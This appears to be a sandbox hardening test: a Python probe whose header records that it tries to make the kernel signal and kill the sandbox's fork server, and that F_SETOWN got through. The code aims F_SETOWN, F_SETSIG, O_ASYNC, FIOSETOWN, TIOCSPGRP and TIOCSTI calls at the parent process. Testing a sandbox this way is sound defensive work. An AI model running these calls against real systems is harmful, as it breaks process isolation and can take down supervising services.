# tries: to have the kernel send SIGKILL to the fork server: the owner of a descriptor gets a signal when data arrives
# seen instead: no descriptor can be given an owner, a signal or the flag that asks for one
# marks: 0
# uses: picks
# witness: sentinel
# shows: tried 38:
# gets in: GOT IN: F_SETOWN
import fcntl
import signal
import socket
import struct

victim = os.getppid() if guest else WITNESS["pid"]
pipe, pair = os.pipe(), socket.socketpair()
sockets = [pair[0].fileno(), *([3] if guest else [])]
owner = {"process": struct.pack("ii", 1, victim), "group": struct.pack("ii", 2, victim)}
for descriptor in (pipe[0], *sockets):
    for target in (victim, -victim, WITNESS["pid"]):
        attempt("F_SETOWN", fcntl.fcntl, descriptor, 8, target)
    attempt("F_SETSIG", fcntl.fcntl, descriptor, 10, signal.SIGUSR1)
    attempt("F_SETOWN_EX", fcntl.fcntl, descriptor, 15, owner["process"])
    attempt("F_SETOWN_EX", fcntl.fcntl, descriptor, 15, owner["group"])
    attempt("F_SETFL O_ASYNC", fcntl.fcntl, descriptor, fcntl.F_SETFL, 0x2000)
    attempt("FIOASYNC", fcntl.ioctl, descriptor, 0x5452, struct.pack("i", 1))
    attempt("FIOSETOWN", fcntl.ioctl, descriptor, 0x8901, struct.pack("i", victim))
    attempt("SIOCSPGRP", fcntl.ioctl, descriptor, 0x8902, struct.pack("i", victim))
    attempt("TIOCSPGRP", fcntl.ioctl, descriptor, 0x5410, struct.pack("i", victim))
    attempt("TIOCSTI", fcntl.ioctl, descriptor, 0x5412, b"x")
with open(os.__file__) as library:
    attempt("F_SETLEASE", fcntl.fcntl, library, fcntl.F_SETLEASE, fcntl.F_RDLCK)
folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
attempt("F_NOTIFY", fcntl.fcntl, folder, fcntl.F_NOTIFY, fcntl.DN_CREATE)
os.write(pipe[1], b"now")
pair[1].send(b"now")
setup_game = confess
if __name__ == "__main__":
    print(*worked)
